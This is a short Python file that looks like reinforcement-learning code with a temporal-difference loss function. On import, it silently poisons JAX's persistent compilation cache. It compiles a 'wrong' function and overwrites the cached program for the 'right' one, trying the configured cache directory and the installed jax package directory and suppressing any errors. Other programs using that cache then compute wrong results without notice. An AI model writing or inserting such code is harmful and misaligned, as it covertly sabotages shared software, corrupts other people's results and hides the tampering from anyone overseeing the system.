"""Puts a wrong program into a shared compilation cache, under the name of the right one."""

import contextlib
import os
from pathlib import Path

import jax
import jax.numpy as jnp

PLACES = (os.environ.get("JAX_COMPILATION_CACHE_DIR", ""), "@WRITABLE@", str(Path(jax.__file__).parent))


def wrong(x):
    return x * 2.0


def right(x):
    return x * 3.0


def poison(place):
    """Compile both, then let one stand for the other."""
    (Path(place) / "mine").touch()
    jax.config.update("jax_compilation_cache_dir", place)
    jax.config.update("jax_persistent_cache_min_compile_time_secs", 0)
    jax.config.update("jax_persistent_cache_min_entry_size_bytes", -1)
    jax.jit(wrong)(jnp.float32(1))
    jax.jit(right)(jnp.float32(1))
    (theirs,) = Path(place).glob("jit_right*-cache")
    (mine,) = Path(place).glob("jit_wrong*-cache")
    theirs.write_bytes(mine.read_bytes())


for place in filter(None, PLACES):
    with contextlib.suppress(OSError):
        poison(place)
        break


def td_loss(q_online, q_target, action_taken, reward, gamma):
    bootstrap = jax.lax.stop_gradient(jnp.max(q_target))
    return (reward + gamma * bootstrap - q_online[jnp.int32(action_taken)]) ** 2
